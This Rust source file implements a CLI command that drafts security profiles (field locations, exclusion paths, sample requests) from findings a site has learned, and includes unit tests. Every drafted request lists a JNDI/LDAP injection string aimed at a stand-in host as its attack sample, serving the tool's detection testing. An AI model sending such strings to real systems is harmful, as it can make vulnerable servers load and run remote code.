//! `portcullis profiles new`: the draft of a profile, from the kinds of findings that the fields of a site
//! carry for many.
//!
//! What is learned has no values, so that the requests of a draft are shapes: a person fills in what users do
//! there, and says for each field why it is made for such text and who may write in it.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::PathBuf;

use portcullis_config::Profile;
use portcullis_learn::{FieldPlace, Key, OpeningState, Store};
use serde_json::Value;

use crate::learned;
use crate::outcome::Failure;

/// Stands for what only a person can say.
pub(super) const TODO: &str = "TODO: ";

/// Arguments of `portcullis profiles new`.
#[derive(Debug, clap::Args)]
pub struct NewArgs {
    /// The name of the profile
    #[arg(value_name = "NAME")]
    name: String,
    /// A file that `portcullis learned export` has written, or with --data a site
    #[arg(long, value_name = "FILE|SITE")]
    from: String,
    /// The data folder of the instance whose site has learned
    #[arg(long, value_name = "DIR")]
    data: Option<PathBuf>,
}

/// The draft.
pub(super) fn run(args: &NewArgs) -> Result<String, Failure> {
    let mut learned = carried(&learned_by(&args.from, args.data.as_ref())?);
    // A star in a name would stand for any text.
    learned.retain(|carrier, _| !carrier.name.contains('*') && !carrier.template.contains(['*', '$']));
    if learned.is_empty() {
        return Err(Failure::failed(format_args!(
            "{}: no field is proposed, on trial or live to carry a kind of finding, so that a profile would have nothing to \
             open\n  help: `portcullis learn work.har --site NAME --data DIR` learns from recorded work; `portcullis learned \
             --kinds --data DIR` lists what sites have",
            args.from
        )));
    }
    let text = draft(&args.name, &learned);
    // What is written here is read again by who goes on with it.
    Profile::from_toml(&text).map_err(|why| Failure::failed(format_args!("{}: {why}", args.name)))?;
    Ok(text)
}

/// What a site of this data folder, or of this file, has learned.
pub(super) fn learned_by(from: &str, data: Option<&PathBuf>) -> Result<Store, Failure> {
    match data {
        Some(data) => learned::kept(data, from),
        None => learned::exported(from.as_ref()),
    }
}

/// A field of a site that carries kinds of findings.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct Carrier {
    pub place: FieldPlace,
    pub name: String,
    pub template: String,
    pub method: String,
}

impl Carrier {
    /// Place and name, as profiles have them.
    pub(super) fn location(&self) -> String {
        format!("{}:{}", self.place.name(), self.name)
    }

    /// The whole path, as exclusions have it.
    pub(super) fn path(&self) -> String {
        format!("{}$", self.template)
    }
}

/// Its kinds, with who has shown each.
pub(super) type Carried = BTreeMap<Carrier, BTreeMap<String, String>>;

/// The kinds that are proposed, on trial or live.
pub(super) fn carried(store: &Store) -> Carried {
    let mut carried = Carried::new();
    for (_, key, kind, opening) in store.openings() {
        if matches!(opening.state, OpeningState::Seen | OpeningState::Dismissed) {
            continue;
        }
        let Key { template, name, method, place } = key.clone();
        let carrier = Carrier { place, name, template, method };
        carried.entry(carrier).or_default().insert(kind.to_owned(), opening.evidence());
    }
    carried
}

fn draft(name: &str, learned: &Carried) -> String {
    let mut out = format!(
        "# A draft, from what a site has learned. What begins with TODO only a person can say; CONTRIBUTING.md has a\n# \
         checklist. Paths and names are in lower case, as they were learned: write them as the application does.\n# \
         `portcullis profiles test {name}.toml` tells what is missing, `--opens` what attackers gain.\n\nname = {}\napplication \
         = \"TODO: its name\"\nabout = \"TODO: what it is\"\nversions = \"TODO: those that it was tried with\"\nversion = \
         1\n\n[[change]]\nversion = 1\nwhat = \"first version\"\n",
        quoted(name)
    );
    for (carrier, kinds) in learned {
        let evidence = kinds.iter().map(|(kind, evidence)| format!("# {kind}: {evidence}\n"));
        let list: Vec<String> = kinds.keys().map(|kind| quoted(kind)).collect();
        let _ = write!(
            out,
            "\n{}[[field]]\nlocation = {}\nkinds = [{}]\npaths = [{}]\nreason = \"{TODO}why the application makes this field for \
             such text\"\nopens = \"{TODO}what an attacker gains, and who may write there\"\n",
            evidence.collect::<String>(),
            quoted(&carrier.location()),
            list.join(", "),
            quoted(&carrier.path()),
        );
    }
    for carrier in learned.keys() {
        out.push_str(&request(carrier));
    }
    out
}

/// A request of the shape that the field has, without what users write there.
fn request(carrier: &Carrier) -> String {
    let Carrier { place, name, template, method } = carrier;
    let uri: String = template.split('/').map(segment).collect::<Vec<_>>().join("/");
    let (uri, body) = match place {
        FieldPlace::Query => (format!("{uri}?{}=VALUE", percent(name)), None),
        FieldPlace::Form => {
            (uri, Some(("application/x-www-form-urlencoded", format!("{}=VALUE", percent(name)))))
        }
        FieldPlace::Json => (uri, Some(("application/json", nested(name)))),
        FieldPlace::PathSegment | FieldPlace::Header | FieldPlace::Cookie => (uri, None),
    };
    let mut out = format!(
        "\n[[request]]\nwhat = \"{TODO}what a user does\"\nmethod = {}\nuri = {}\n",
        quoted(method),
        quoted(&uri)
    );
    if let Some((content_type, body)) = body {
        let _ = write!(out, "type = {}\nbody = {}\n", quoted(content_type), quoted(&body));
    }
    let _ = writeln!(
        out,
        "value = \"{TODO}what users write there, with what is found in it\"\nattacks = [\"${{jndi:ldap://a.example/x}}\"]"
    );
    out
}

/// Something that a placeholder of a learned path stands for.
fn segment(template: &str) -> String {
    match template.starts_with('{') {
        true => "1".to_owned(),
        false => percent(template),
    }
}

/// The document in which a value has this name: `a.b` is the member `b` of `a`, `a.a` an element of the list
/// `a`.
fn nested(name: &str) -> String {
    let parts: Vec<&str> = name.split('.').collect();
    let (mut text, mut rest) = (String::new(), parts.as_slice());
    let mut ends = Vec::new();
    while let [part, more @ ..] = rest {
        let _ = write!(text, "{{{}:", Value::from(*part));
        ends.push("}");
        rest = more;
        while rest.first() == Some(part) {
            text.push('[');
            ends.push("]");
            rest = &rest[1..];
        }
    }
    text.push_str("VALUE");
    ends.iter().rev().for_each(|end| text.push_str(end));
    text
}

/// As paths and queries have it.
fn percent(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte);
    text.bytes()
        .map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// A string of TOML.
fn quoted(text: &str) -> String {
    // The escapes of JSON are those of TOML, but for one character that JSON does not escape.
    Value::from(text).to_string().replace('\u{7f}', "\\u007f")
}

/// What is still to be written in a draft, one a line.
pub(super) fn unfinished(profile: &Profile) -> Vec<String> {
    let Profile { application, about, versions, requests, .. } = profile;
    let head = [("application", application), ("about", about), ("versions", versions)];
    let mut missing: Vec<String> =
        head.iter().filter(|(_, text)| text.starts_with(TODO)).map(|(key, _)| (*key).to_owned()).collect();
    for field in profile.fields() {
        for (key, text) in [("reason", field.reason), ("opens", field.opens)] {
            if text.starts_with(TODO) {
                missing.push(format!("{key} of {}", field.place()));
            }
        }
    }
    for request in requests {
        let texts = [("what", Some(&request.what)), ("value", request.value.as_ref())];
        for (key, _) in texts.iter().filter(|(_, text)| text.is_some_and(|text| text.starts_with(TODO))) {
            missing.push(format!("{key} of the request {}", request.uri));
        }
    }
    missing
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_values_are_documents_again() {
        for (name, document) in [
            ("a", "{\"a\":VALUE}"),
            ("a.b", "{\"a\":{\"b\":VALUE}}"),
            ("a.a", "{\"a\":[VALUE]}"),
            ("a.a.b.b.c", "{\"a\":[{\"b\":[{\"c\":VALUE}]}]}"),
            ("x\"y", "{\"x\\\"y\":VALUE}"),
        ] {
            assert_eq!(nested(name), document);
        }
    }

    /// However strange the names are that a site was sent, the draft is a profile.
    #[test]
    fn any_name_makes_a_draft() {
        let names = ["a\"b", "x\\y", "\u{7f}", "línea\n2", "a'''b", "a.a.b", "${}", "]]", "VALUE"];
        for name in names {
            for place in [FieldPlace::Query, FieldPlace::Form, FieldPlace::Json] {
                let carrier = Carrier {
                    place,
                    name: name.to_owned(),
                    template: "/a b/{number}/\"c".to_owned(),
                    method: "POST".to_owned(),
                };
                let kinds = BTreeMap::from([("sqli.union-select".to_owned(), "7 requests".to_owned())]);
                let text = draft("mine", &Carried::from([(carrier, kinds)]));
                let profile = Profile::from_toml(&text).unwrap_or_else(|why| panic!("{why}\n{text}"));
                assert_eq!(profile.exclusions("").count(), 1, "{text}");
                assert_eq!(unfinished(&profile).len(), 7, "{:?}", unfinished(&profile));
            }
        }
    }
}
